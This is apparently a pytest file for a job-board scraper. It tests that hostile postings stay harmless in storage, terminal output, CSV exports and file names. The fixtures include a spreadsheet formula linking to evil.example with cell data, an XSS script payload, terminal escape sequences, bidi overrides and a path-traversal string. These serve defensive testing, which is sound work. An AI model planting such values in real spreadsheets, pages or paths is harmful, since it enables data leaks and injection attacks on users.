"""Hostile postings and boards do no harm: not in the store, not on a terminal, not in a spreadsheet or a file name."""

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from scrapers import boards as boards_module
from scrapers.errors import ParseError
from scrapers.escapes import escape_cell, escape_controls
from scrapers.store import Store
from tests.conftest import Run
from tests.scrapers.conftest import Platform, job

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b31m"
BIDI = "Engineer \u202egnireenigne\u202c \u2066x\u2069"
CLIMB = "../../../../tmp/escaped"
NULS = "Data\x00Engineer"
HALF = "Data \ud800 Engineer"
LONG = "x" * 5_000_000 + " Data Engineer"
WORDS = (FORMULA, SCRIPT, TERMINAL, BIDI, CLIMB, NULS, "Airflow is required. " * 20)
BODY = "Requirements\n- Airflow\n" + "We keep gardens in order. " * 20
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
FILE_NAME = re.compile(r"\.?\w[\w=-]*(\.\w+)?(/\w[\w=-]*(\.\w+)?)*")

JOBS = [
    *(job(n, id=f"{n}{word}", title=f"{word} Data Engineer", text=f"{word}\n{BODY}") for n, word in enumerate(WORDS)),
    job(90, company=FORMULA, text=BODY),
    job(91, company=TERMINAL, text=BODY),
    job(92, title=LONG, text=BODY),
    job(93, title=HALF, text=BODY),
    job(94, title=f"{HALF}{TERMINAL}", id=f"94{TERMINAL}{HALF}", text=BODY),
]


@pytest.fixture(autouse=True)
def _without_snapshot(monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave the bundled facts out: reading them takes longer than all that is tested here."""
    for module in ("loading", "status", "tag"):
        monkeypatch.setattr(f"analysis.{module}.snapshot_files", list)


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, platforms: object, httpserver: HTTPServer) -> Path:
    """A data root whose list names hostile boards, and a server that gives hostile jobs whatever is asked."""
    folder = tmp_path / "a" / "b" / "c" / "root"
    folder.mkdir(parents=True)
    listed = [("gardens", CLIMB, FORMULA), ("gardens", FORMULA.replace(" ", ""), SCRIPT), ("gardens", "x", TERMINAL)]
    with (folder / "boards.csv").open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([("platform", "token", "label"), *listed])
    monkeypatch.setattr(boards_module, "bundled", lambda name: folder / name)

    def answer(request: Request) -> Response:
        jobs = JOBS if request.path.endswith("/1") else []
        return Response(json.dumps({"jobs": jobs}), content_type="application/json")

    httpserver.expect_request(re.compile("/.*")).respond_with_handler(answer)
    return folder


def files(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())


def test_a_hostile_posting_stays_text_on_the_whole_way(
    root: Path, tmp_path: Path, run: Run, httpserver: HTTPServer
) -> None:
    data, base = ("--data", root), ("--base-url", httpserver.url_for("/"))
    code, out, err = run("collect", "gardens:x", *base, *data)
    said = [out, err]
    assert (code, out.split()[1]) == (0, "ok")
    titles = [row["title"] for batch in Store(root).postings("gardens") for row in batch.to_pylist()]
    # Half a surrogate pair has no UTF-8: such a record is a reject, and those beside it are kept.
    assert len(titles) == len(JOBS) - 2
    assert {f"{FORMULA} Data Engineer", LONG} <= set(titles)
    rejects = [json.loads(line) for path in root.glob("rejects/*.jsonl") for line in path.read_bytes().splitlines()]
    assert len(rejects) == 2
    for words in (("tag", "--workers", "1"), ("status",), ("boards", "list"), ("boards", "check", *base)):
        code, out, err = run(*words, *data)
        assert code == 0, err
        said += [out, err]
    out = run(
        "rates", "--by", "source,country,lang", "--role", "all", "--only-from", "store", "--format", "csv", *data
    )[1]
    assert [row["source"] for row in csv.DictReader(io.StringIO(out))] == ["gardens"]
    assert not [found for text in said for found in UNSAFE.findall(text)]
    assert [name for name in files(tmp_path) if not name.startswith("a/b/c/root/")] == []
    assert [name for name in files(root) if not FILE_NAME.fullmatch(name)] == []
    (facts,) = root.glob("facts/**/*.parquet")
    assert not re.search("HYPERLINK|script|owned|escaped", json.dumps(pq.read_table(facts).to_pylist()))


@pytest.mark.parametrize("word", [TERMINAL, BIDI, NULS, HALF])
def test_what_a_server_says_is_shown_and_not_obeyed(
    root: Path, run: Run, platforms: dict[str, Platform], monkeypatch: pytest.MonkeyPatch, word: str
) -> None:
    def refuse(*_: Any) -> Any:
        raise ParseError("gardens", f"https://api.example/{word}", f"the server says {word}")

    monkeypatch.setattr(platforms["gardens"], "read_board", refuse)
    for words in (("collect", "gardens:x"), ("boards", "check"), ("boards", "list"), ("status",)):
        _, out, err = run(*words, "--data", root)
        assert not UNSAFE.findall(out + err), words
        assert ("the server says" if words != ("boards", "list") else "failed") in out


def test_a_list_of_boards_computes_nothing_in_a_spreadsheet(root: Path, run: Run) -> None:
    out = run("boards", "list", "--format", "csv", "--data", root)[1]
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["label"] == f"'{FORMULA}"
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
    assert not UNSAFE.findall(out)


def test_a_dataset_cannot_name_a_file_elsewhere_or_compute(tmp_path: Path, run: Run) -> None:
    hostile = (FORMULA, CLIMB, TERMINAL, SCRIPT, BIDI)
    common = {"text": BODY, "posted_at": "2024-03-01"}
    rows = [{"dataset": name, "title": f"{name} Data Engineer", "company": name, **common} for name in hostile]
    (tmp_path / "jobs.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    data = ("--data", tmp_path / "root")
    said = [*run("import", tmp_path / "jobs.jsonl", *data), *run("tag", "--workers", "1", *data)]
    out = run("rates", "--by", "source", "--role", "all", "--only-from", "store", "--format", "csv", *data)[1]
    found = [row["source"] for row in csv.DictReader(io.StringIO(out))]
    assert len(found) == len(hostile)
    assert all(re.fullmatch(r"\w[\w.-]*", name) for name in found)
    assert [name for name in files(tmp_path) if not name.startswith(("root/", "jobs.jsonl"))] == []
    assert not UNSAFE.findall(out + "".join(map(str, said)))


@given(st.text())
def test_escaped_text_is_harmless_and_plain_text_stays(text: str) -> None:
    shown = escape_controls(text)
    assert not UNSAFE.findall(shown)
    assert "\n" not in shown
    assert escape_controls(shown) == shown
    assert escape_cell(text)[:1] not in ("=", "+", "-", "@")


@pytest.mark.parametrize("text", ["데이터 엔지니어 👩‍💻", "Ingénieur·e données – Zürich", "a = b", "C++ / C#"])
def test_ordinary_text_is_not_changed(text: str) -> None:
    assert escape_controls(text) == escape_cell(text) == text
